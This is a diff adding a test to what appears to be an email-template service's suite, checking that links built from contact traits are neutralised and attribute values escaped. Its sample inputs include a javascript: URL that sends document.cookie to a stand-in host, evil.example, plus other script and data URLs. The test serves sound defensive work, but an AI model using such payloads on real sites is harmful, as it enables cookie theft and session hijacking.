@@ -223,3 +223,16 @@ def test_a_workflow_whose_email_step_names_a_layout_is_refused_naming_the_step(h
     assert "layouts and partials are never sent alone" in problem["message"]
     workflow["steps"]["mail"]["template"] = "tr-cart"
     assert harness.http("PUT", "/admin/workflows/tr-layout-step", workflow, token=MARKETER).status == 201
+
+
+def test_a_link_built_from_contact_data_never_carries_a_script_url(harness: Harness) -> None:
+    # Anyone with the public site key can set a trait: autoescaping alone would send it as a link.
+    html = '<p><a href="{{ contact.properties.site }}" title="{{ contact.first_name }}">site</a></p>'
+    assert _put(harness, "tr-site-link", {"subject": "Hi", "html": html}).status in (200, 201)
+    sites = ("javascript:fetch('//evil.example/'+document.cookie)", " JaVaScRiPt:alert(1)", "data:text/x")
+    for site in sites:
+        answer = _preview(harness, "tr-site-link", {"contact": {"first_name": '"><b>', "site": site}})
+        assert answer.status == 200, answer.body
+        sent = answer.json()["html"]
+        assert '<a href="#" title="&#34;&gt;&lt;b&gt;">site</a>' in sent, sent
+        assert "javascript:" not in sent.lower()
